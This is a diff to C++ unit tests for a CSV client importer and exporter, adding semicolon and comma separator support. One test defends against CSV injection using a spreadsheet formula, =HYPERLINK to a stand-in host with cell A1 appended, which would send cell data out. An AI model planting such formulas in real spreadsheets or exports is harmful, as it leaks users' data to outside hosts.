@@ -589,13 +589,14 @@ TEST_F(ImporterTest, AnItalianErrorReportKeepsItsHeadersAndRoundTrips) {
                          absl::StrCat(bianchi_, ";Bianchi WRONG;B-1\n"));
   absl::StatusOr<std::string> report = Report(job);
   ASSERT_THAT(report, IsOk()) << report.status();
-  std::vector<csv::Record> rows = csv::Parse(*report);
+  // Written with the file's separator, for the spreadsheet that wrote it.
+  std::vector<csv::Record> rows = csv::Parse(*report, ';');
   ASSERT_EQ(rows.size(), 2u);
   EXPECT_THAT(rows[0].fields,
               ElementsAre("ID società", "Nome visualizzato", "Numero cliente", "Errore"));
   rows[1].fields[1] = "Bianchi SpA";
   std::string fixed(csv::kBom);
-  for (const csv::Record& r : rows) fixed += csv::Line(r.fields);
+  for (const csv::Record& r : rows) fixed += csv::Line(r.fields, ';');
   JobRecord second = Import(fixed);
   EXPECT_EQ(second.state(), v1::ImportJob::SUCCEEDED) << second.failure_reason();
   EXPECT_EQ(Number(bianchi_), "B-1");
@@ -819,14 +820,15 @@ TEST_F(ImporterTest, ExportStreamsEveryClientInChunksWithQuoting) {
   for (int i = 2001; i < 4500; ++i) AddClient(absl::StrCat("Neri, Gialli ", i));
   std::string all;
   int chunks = 0;
-  ASSERT_THAT(importer_->Export(testing::As("alice"), firm_, v1::ITALIAN, false, AnyRoom,
-                                [&](std::string chunk) {
-                                  EXPECT_LE(chunk.size(), 64u * 1024 + 200);
-                                  all += chunk;
-                                  ++chunks;
-                                  return true;
-                                }),
-              IsOk());
+  ASSERT_THAT(
+      importer_->Export(testing::As("alice"), firm_, v1::ITALIAN, ',', false, AnyRoom,
+                        [&](std::string chunk) {
+                          EXPECT_LE(chunk.size(), 64u * 1024 + 200);
+                          all += chunk;
+                          ++chunks;
+                          return true;
+                        }),
+      IsOk());
   EXPECT_GT(chunks, 1);
   std::vector<csv::Record> rows = csv::Parse(all);
   ASSERT_EQ(rows.size(), 3u + 2500u + 1u);
@@ -838,6 +840,27 @@ TEST_F(ImporterTest, ExportStreamsEveryClientInChunksWithQuoting) {
               ElementsAre(absl::StrCat(first_neri), "Neri, Gialli 2000", ""));
 }
 
+// Where a comma is the decimal separator, Excel reads and writes ';': the
+// separator asked for separates and is quoted in a name, a comma is not.
+TEST_F(ImporterTest, ExportWritesTheSeparatorAskedForAndUploadsBack) {
+  const uint64_t semicolon = AddClient("Bruni; Gialli");
+  const uint64_t comma = AddClient("Neri, Gialli");
+  std::string exported;
+  ASSERT_THAT(
+      importer_->Export(testing::As("alice"), firm_, v1::ITALIAN, ';', false, AnyRoom,
+                        [&](std::string chunk) {
+                          exported += chunk;
+                          return true;
+                        }),
+      IsOk());
+  EXPECT_THAT(exported, HasSubstr("ID società;Nome visualizzato;Numero cliente\r\n"));
+  EXPECT_THAT(exported, HasSubstr(absl::StrCat(semicolon, ";\"Bruni; Gialli\";\r\n")));
+  EXPECT_THAT(exported, HasSubstr(absl::StrCat(comma, ";Neri, Gialli;\r\n")));
+  JobRecord again = Import(exported);
+  EXPECT_EQ(again.state(), v1::ImportJob::SUCCEEDED) << again.failure_reason();
+  EXPECT_EQ(again.unchanged_rows(), 5);
+}
+
 // A name or number a spreadsheet would run as a formula (CSV injection) is
 // exported as text, and the export uploaded again changes nothing; a row of
 // it an upload rejects keeps that in the error report.
@@ -845,12 +868,13 @@ TEST_F(ImporterTest, FormulasAreExportedAsTextAndReadBackAsTheyWere) {
   const std::string formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")";
   const uint64_t hostile = AddClient(formula, "-17");
   std::string exported;
-  ASSERT_THAT(importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, false, AnyRoom,
-                                [&](std::string chunk) {
-                                  exported += chunk;
-                                  return true;
-                                }),
-              IsOk());
+  ASSERT_THAT(
+      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false, AnyRoom,
+                        [&](std::string chunk) {
+                          exported += chunk;
+                          return true;
+                        }),
+      IsOk());
   EXPECT_THAT(exported, HasSubstr(absl::StrCat(hostile, ",\"'=HYPERLINK(")));
   EXPECT_THAT(exported, HasSubstr(",'-17\r\n"));
 
@@ -882,21 +906,22 @@ TEST_F(ImporterTest, ExportPagesAreSizedToAChunkOfTheirRows) {
               absl::StrCat(n, longest.substr(0, 96 * 4)));
   }
   size_t rows = 0;
-  ASSERT_THAT(importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, false, AnyRoom,
-                                [&](std::string piece) {
-                                  EXPECT_LE(piece.size(), 2u * 64 * 1024);
-                                  rows += csv::Parse(piece).size();
-                                  return true;
-                                }),
-              IsOk());
+  ASSERT_THAT(
+      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false, AnyRoom,
+                        [&](std::string piece) {
+                          EXPECT_LE(piece.size(), 2u * 64 * 1024);
+                          rows += csv::Parse(piece).size();
+                          return true;
+                        }),
+      IsOk());
   EXPECT_EQ(rows, 1u + 3u + 400u);
   EXPECT_EQ(directory_.page_sizes.front(), 50);
   for (int32_t size : directory_.page_sizes) EXPECT_LE(size, 100);
   // Short rows: pages grow, at most doubling, to 1,000.
   for (int i = 0; i < 3000; ++i) AddClient(absl::StrCat("Bianchi ", i));
   directory_.page_sizes.clear();
-  ASSERT_THAT(importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, false, AnyRoom,
-                                [](std::string) { return true; }),
+  ASSERT_THAT(importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false,
+                                AnyRoom, [](std::string) { return true; }),
               IsOk());
   EXPECT_THAT(directory_.page_sizes, ElementsAre(50, 100, 200, 400, 800, 1000, 1000));
 }
@@ -924,7 +949,7 @@ TEST_F(ImporterTest, ExportPagesHoldRoomForTheirLongestRowsAndShrinkToIt) {
     return true;
   };
   ASSERT_THAT(
-      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, false, room, sink),
+      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false, room, sink),
       IsOk());
   EXPECT_EQ(rows, 1u + 3u + 300u);
   EXPECT_EQ(asked.front(), 50 * kMaxExportRowBytes);
@@ -934,7 +959,7 @@ TEST_F(ImporterTest, ExportPagesHoldRoomForTheirLongestRowsAndShrinkToIt) {
   rows = 0;
   directory_.page_sizes.clear();
   ASSERT_THAT(
-      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, false, room, sink),
+      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false, room, sink),
       IsOk());
   EXPECT_EQ(rows, 1u + 3u + 300u);
   EXPECT_EQ(directory_.page_sizes.size(), 303u);
